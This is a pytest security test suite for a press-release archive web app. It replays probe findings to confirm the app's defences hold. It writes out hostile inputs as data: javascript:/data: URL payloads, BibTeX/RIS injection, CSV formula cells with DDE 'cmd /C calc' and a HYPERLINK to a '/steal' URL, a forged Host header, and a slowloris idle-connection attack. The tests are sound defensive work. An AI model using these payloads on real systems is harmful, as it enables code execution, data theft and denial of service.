"""The web layer under the attacks of the security probe (../shared/security/probe-2026-12-01.md).

Each test replays a finding as the probe sent it: H3 (thousands of filter values), M1 (``javascript:`` and
``data:`` release URLs), M2 (BibTeX/RIS injection through the URL), M3 (formula cells in the CSV export), L1
(control characters in the Atom feed), L2 (``?paragraph=²``), L3 (a forged ``Host``), M5 (idle connections),
I3 (what the API's ``passages`` are). The hostile values are put back into every release the site reads, so the
tests exercise the web layer's own defences even where the indexer now drops such values at index time.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urlencode

import bibtexparser
import pytest
import rispy

from archive.model import Release
from archive.store import IndexHome
from indexer.build import run_index
from web.params import MAX_FILTER_VALUES, MAX_VALUES_PER_FACET

from .conftest import ROOT, free_port

HOSTILE_URLS = {
    "alpha": "javascript:alert(document.domain)//https://example.com/x",
    "bravo": "data:text/html,<script>alert('JSONURL')</script>",
    "charlie": "java\tscript:alert(1)",
    "delta": "https://example.com/b}race\\input{/etc/passwd}",
    "echo": "https://example.com/a}, note = {INJECTED-BIBTEX}, x = {\nTY  - JOUR\nAU  - INJECTED RIS AUTHOR\nER  - \nTY  - ELEC",
}
CONTROL_TITLE = "Control chars \u0001\u0002\u0008\u000b\u001b\ufffe\uffff in title"
FORMULAS = {  # probe M3: cells a spreadsheet would run
    "title": '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"Click for details")',
    "issuer": "+cmd|' /C calc'!A0 formula 1",
    "subtitle": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dateline": "\t=1+1",
    "wire": "-2+3+cmd|' /C calc'!A0",
}
ATOM = "{http://www.w3.org/2005/Atom}"


def _records() -> list[dict]:
    records = [{"title": f"Hostile link number {n}", "date": f"2024-03-0{i}", "issuer": "Port of Tessaly",
                "text": f"The harbor case {n} opened today with a hostile link.", "url": "https://example.com/ok"}
               for i, n in enumerate(HOSTILE_URLS, start=1)]
    records.append({"title": "Control chars in title", "date": "2024-04-01", "issuer": "Port of Tessaly",
                    "text": "The control case opened today."})
    records.append({"title": "Formula cells", "date": "2024-04-02", "issuer": "Port of Tessaly",
                    "text": "The formula case opened today.", "tags": ["=1+1", "@SUM(A1)"]})
    return records


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory: pytest.TempPathFactory) -> IndexHome:
    folder = tmp_path_factory.mktemp("hostile-web")
    (folder / "attacks.jsonl").write_text("\n".join(json.dumps(r) for r in _records()) + "\n")
    home = IndexHome(folder / "index")
    run_index([folder / "attacks.jsonl"], home, jobs=1)
    return home


@pytest.fixture(scope="module")
def hostile_values():
    """Every release read from the index carries the probe's values again, whatever the indexer kept."""
    original = Release.from_json.__func__  # type: ignore[attr-defined]

    def from_json(cls, text: str) -> Release:  # type: ignore[no-untyped-def]
        release = original(cls, text)
        if release.title.startswith("Hostile link number "):
            release.url = HOSTILE_URLS[release.title.rsplit(" ", 1)[1]]
        elif release.title == "Control chars in title":
            release.title = CONTROL_TITLE
            release.paragraphs = ["The control case \x0c opened \x1b today."]
        elif release.title == "Formula cells":
            for name, value in FORMULAS.items():
                setattr(release, name, value)
            release.tags = ["=1+1", "@SUM(A1)"]
        return release

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Release, "from_json", classmethod(from_json))
        yield


@pytest.fixture(scope="module")
def client(hostile_home, hostile_values):
    from web import create_app

    return create_app({"INDEX_PATH": str(hostile_home.path)}).test_client()


@pytest.fixture(scope="module")
def demo_client(demo_home):
    from web import create_app

    return create_app({"INDEX_PATH": str(demo_home.path)}).test_client()


def _ids(client, q: str) -> list[str]:
    return [h["id"] for h in client.get("/api/search?" + urlencode({"q": q, "size": 100})).get_json()["hits"]]


# H3 -------------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/", "/api/search", "/feed.atom", "/export.csv", "/export.jsonl"])
def test_h3_thousands_of_filter_values_are_a_quick_400_naming_the_parameter(demo_client, path):
    query = urlencode([("speaker", f"Name {i}") for i in range(5000)])
    started = time.perf_counter()
    response = demo_client.get(f"{path}?{query}")
    assert time.perf_counter() - started < 2
    body = response.get_data(as_text=True)
    assert response.status_code == 400 and len(body) < 10_000
    assert f"parameter 'speaker' may be given at most {MAX_VALUES_PER_FACET} times, not 5,000" in body.replace("&#39;", "'")


def test_h3_filter_values_are_capped_across_facets_too(demo_client):
    facets = ["speaker", "topic", "issuer"]
    pairs = [(name, f"Value {i}") for name in facets for i in range(MAX_VALUES_PER_FACET)]
    response = demo_client.get("/api/search?" + urlencode(pairs))
    assert response.status_code == 400
    assert f"at most {MAX_FILTER_VALUES} filter values in all" in response.get_json()["message"]
    assert demo_client.get("/api/search?" + urlencode(pairs[:MAX_FILTER_VALUES])).status_code == 200


def test_h3_the_search_page_and_its_link_header_grow_linearly_with_the_filters(demo_client):
    def page(n: int) -> tuple[int, int, int]:
        pairs = [(name, f"Nobody {name} {i:03d} " + "x" * 60) for name in ("speaker", "issuer", "tag")
                 for i in range(n)]
        query = urlencode(pairs)
        response = demo_client.get("/?" + query)
        assert response.status_code == 200
        return len(response.get_data()), len(response.headers["Link"]), len(query)

    empty, _, _ = page(0)
    small, small_link, small_query = page(4)
    big, big_link, big_query = page(16)  # 4x the values
    # Linear: 4x the values add ~4x the bytes. The old chip links (each the whole query string) added ~16x.
    assert (big - empty) / (small - empty) < 6
    assert big_link < big_query + 200 and small_link < small_query + 200


def test_h3_a_chip_removes_its_value_through_the_form(demo_client):
    response = demo_client.get("/?q=water&topic=environment&topic=politics&sort=newest&drop=topic:politics")
    assert response.status_code == 302
    assert response.headers["Location"] == "/?q=water&topic=environment&sort=newest"
    page = demo_client.get("/?q=water&topic=environment&sort=newest").get_data(as_text=True)
    assert 'name="drop" value="topic:environment"' in page and '<input type="hidden" name="sort" value="newest">' in page


# M1 / M2 --------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("n", sorted(HOSTILE_URLS))
def test_m1_a_release_url_that_is_not_http_is_never_a_link_nor_cited(client, n):
    (release_id,) = _ids(client, f"hostile case {n}")
    page = client.get(f"/releases/{release_id}").get_data(as_text=True)
    url = HOSTILE_URLS[n]
    for exported in (client.get(f"/api/releases/{release_id}").get_json()["url"],
                     client.get(f"/api/search?q={n}").get_json()["hits"][0]["url"]):
        assert exported in ("", "https://example.com/b%7Drace%5Cinput%7B/etc/passwd%7D")
    if n != "delta":
        for body in (page, client.get(f"/api/releases/{release_id}/cite").get_data(as_text=True),
                     client.get(f"/releases/{release_id}/cite.json").get_data(as_text=True),
                     client.get(f"/export.jsonl?q={n}").get_data(as_text=True)):
            assert "javascript" not in body and "data:text" not in body and "INJECTED" not in body
        assert "citation_fulltext_html_url" not in page and "isBasedOn" not in page and "Original" not in page
    else:
        assert 'href="https://example.com/b%7Drace%5Cinput%7B/etc/passwd%7D"' in page
    assert url not in page


@pytest.mark.parametrize("n", ["delta", "echo"])
def test_m2_cite_downloads_hold_one_record_with_the_intended_fields(client, n):
    (release_id,) = _ids(client, f"hostile case {n}")
    library = bibtexparser.parse_string(client.get(f"/releases/{release_id}/cite.bib").get_data(as_text=True))
    assert len(library.entries) == 1 and not library.failed_blocks
    assert set(library.entries[0].fields_dict) == {"title", "author", "year", "month", "date", "type", "url", "urldate", "note"}
    records = rispy.loads(client.get(f"/releases/{release_id}/cite.ris").get_data(as_text=True))
    assert len(records) == 1 and records[0]["authors"] == ["Port of Tessaly"]
    api = client.get(f"/api/releases/{release_id}/cite").get_json()
    assert len(bibtexparser.parse_string(api["bibtex"]).entries) == 1 and len(rispy.loads(api["ris"])) == 1


# M3 -------------------------------------------------------------------------------------------------------------

def test_m3_no_csv_cell_starts_like_a_formula(client):
    body = client.get("/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == len(_records()) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    formula_row = next(dict(zip(rows[0], row, strict=True)) for row in rows[1:] if "HYPERLINK" in "".join(row))
    assert formula_row["title"] == "'" + FORMULAS["title"] and formula_row["issuer"] == "'" + FORMULAS["issuer"]
    assert formula_row["tags"] == "'=1+1; @SUM(A1)"


# L1 -------------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("query", ["", "?q=control", "?q=%01%1b%ef%bf%be"])
def test_l1_control_characters_never_break_the_atom_feed(client, query):
    response = client.get("/feed.atom" + query)
    feed = ET.fromstring(response.get_data())  # a real XML parser: fails on any character XML 1.0 forbids
    titles = [e.findtext(f"{ATOM}title") for e in feed.findall(f"{ATOM}entry")]
    if query != "?q=%01%1b%ef%bf%be":
        assert "Control chars  in title" in titles


# L2 -------------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["\u00b2", "\u2460", "\u00b3", "\u0661", "\uff11", "1_0", " 1", "+1", "9" * 5000])
def test_l2_a_paragraph_number_not_written_in_ascii_digits_is_a_clear_400(demo_client, demo_records, value):
    release_id = demo_records[0]["id"]
    for path in (f"/releases/{release_id}", f"/releases/{release_id}/cite.bib", f"/releases/{release_id}/cite.ris",
                 f"/api/releases/{release_id}/cite"):
        response = demo_client.get(path + "?" + urlencode({"paragraph": value}))
        assert response.status_code == 400, (path, value)
        assert "parameter 'paragraph' must be a paragraph number" in response.get_data(as_text=True).replace("&#39;", "'")


@pytest.mark.parametrize("name", ["page", "size", "facets"])
@pytest.mark.parametrize("value", ["\u00b2", "\uff11\uff10", "\u0661", "1_0"])
def test_l2_every_integer_parameter_takes_ascii_digits_only(demo_client, name, value):
    for path in ("/", "/api/search", "/feed.atom", "/export.csv"):
        response = demo_client.get(path + "?" + urlencode({name: value}))
        assert response.status_code == 400, (path, name, value)
        assert f"parameter '{name}' must be a whole number" in response.get_data(as_text=True).replace("&#39;", "'")


# L3 -------------------------------------------------------------------------------------------------------------

def test_l3_with_a_base_url_the_host_header_never_reaches_a_link(demo_home, demo_records):
    from web import create_app

    client = create_app({"INDEX_PATH": str(demo_home.path), "BASE_URL": "https://archive.example.org"}).test_client()
    release_id = demo_records[0]["id"]
    paths = ["/?q=water", f"/releases/{release_id}", f"/releases/{release_id}?paragraph=1", "/feed.atom",
             "/opensearch.xml", "/export.csv", "/export.jsonl", f"/api/releases/{release_id}",
             f"/api/releases/{release_id}/cite", f"/releases/{release_id}/cite.bib", f"/releases/{release_id}/cite.ris"]
    for path in paths:
        response = client.get(path, headers={"Host": "evil.example"})
        body = response.get_data(as_text=True)
        assert response.status_code == 200 and "evil.example" not in body, path
        assert "https://archive.example.org/" in body, path
    assert 'rel="canonical" href="https://archive.example.org/releases/' in client.get(f"/releases/{release_id}").get_data(as_text=True)
    redirect = client.get("/", environ_overrides={"PATH_INFO": f"//releases//{release_id}"}, headers={"Host": "evil.example"})
    assert redirect.status_code == 308
    assert redirect.headers["Location"] == f"https://archive.example.org/releases/{release_id}"
    assert "evil.example" not in redirect.get_data(as_text=True)


def test_l3_without_a_base_url_a_forged_host_is_refused(demo_client, demo_records):
    for path in ("/", f"/releases/{demo_records[0]['id']}", "/feed.atom", "/api/search", "/no/such/page"):
        response = demo_client.get(path, headers={"Host": "evil.example"})
        assert response.status_code == 400 and "does not answer for that host name" in response.get_data(as_text=True)
    assert demo_client.get("/", headers={"Host": "127.0.0.1:5000"}).status_code == 200


def test_l3_a_base_url_must_be_the_root_of_an_http_site(demo_home):
    from web import create_app

    for bad in ("javascript:alert(1)", "https://archive.example.org/x?y=1", "ftp://archive.example.org", "archive.example.org"):
        with pytest.raises(ValueError, match="base URL must"):
            create_app({"INDEX_PATH": str(demo_home.path), "BASE_URL": bad})


def test_l3_archive_cite_uses_the_base_url_and_never_invents_one(demo_home, demo_records):
    env = {"ARCHIVE_INDEX": str(demo_home.path), "PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)}
    release_id = demo_records[0]["id"]
    cite = [sys.executable, "-m", "archive.cli", "cite", release_id, "--style", "bibtex"]
    plain = subprocess.run(cite, env=env, capture_output=True, text=True, check=True)
    assert "127.0.0.1" not in plain.stdout and "Archived at" not in plain.stdout and "--base-url" in plain.stderr
    based = subprocess.run(cite, env={**env, "ARCHIVE_BASE_URL": "https://archive.example.org/"}, capture_output=True,
                           text=True, check=True)
    assert f"Archived at https://archive.example.org/releases/{release_id}" in based.stdout.replace("\\_", "_")


# M5 -------------------------------------------------------------------------------------------------------------

def test_m5_idle_connections_are_dropped_so_they_cannot_lock_everyone_out(demo_home):
    """The probe's slowloris: as many unfinished requests as the connection limit. With a short channel timeout
    the server drops them and answers a real visitor; Waitress's defaults (120 s) kept him out."""
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "archive.cli", "serve", "--index", str(demo_home.path), "--port", str(port),
         "--connection-limit", "5", "--channel-timeout", "2", "--threads", "2"],
        cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    idle: list[socket.socket] = []
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                time.sleep(0.2)
        for _ in range(8):
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # never finished
            idle.append(s)
        started = time.monotonic()
        with socket.create_connection(("127.0.0.1", port), timeout=15) as visitor:
            visitor.sendall(b"GET /api/search?size=1 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            answer = visitor.recv(100)
        assert answer.startswith(b"HTTP/1.1 200"), answer
        assert time.monotonic() - started < 12
    finally:
        for s in idle:
            s.close()
        server.terminate()
        server.wait(timeout=10)


def test_m5_serve_offers_the_waitress_limits():
    out = subprocess.run([sys.executable, "-m", "archive.cli", "serve", "--help"], cwd=ROOT, capture_output=True,
                         text=True, check=True).stdout
    for option in ("--threads", "--connection-limit", "--channel-timeout", "--max-request-header-size",
                   "--max-request-body-size", "--base-url", "--trusted-host"):
        assert option in out


# I3 -------------------------------------------------------------------------------------------------------------

def test_i3_the_api_says_passages_are_escaped_html_and_the_rest_raw_text(demo_client):
    spec = demo_client.get("/api/openapi.json").get_json()
    text = json.dumps(spec)
    assert re.search(r"passages[^\"]*escaped HTML", text) and "<mark>" in text and "raw text" in text
    hit = spec["components"]["schemas"]["Hit"]["properties"]
    assert "escaped HTML" in hit["passages"]["description"] and "raw text" in hit["title"]["description"].lower()


def test_docs_list_every_cap_with_its_value():
    from web import params

    security = (Path(ROOT) / "docs" / "SECURITY.md").read_text()
    for name in ("MAX_VALUES_PER_FACET", "MAX_FILTER_VALUES", "MAX_VALUE", "MAX_QUERY"):
        assert re.search(rf"`{name}`[^\n]*\b{getattr(params, name):,}\b|`{name}`[^\n]*\b{getattr(params, name)}\b", security), name
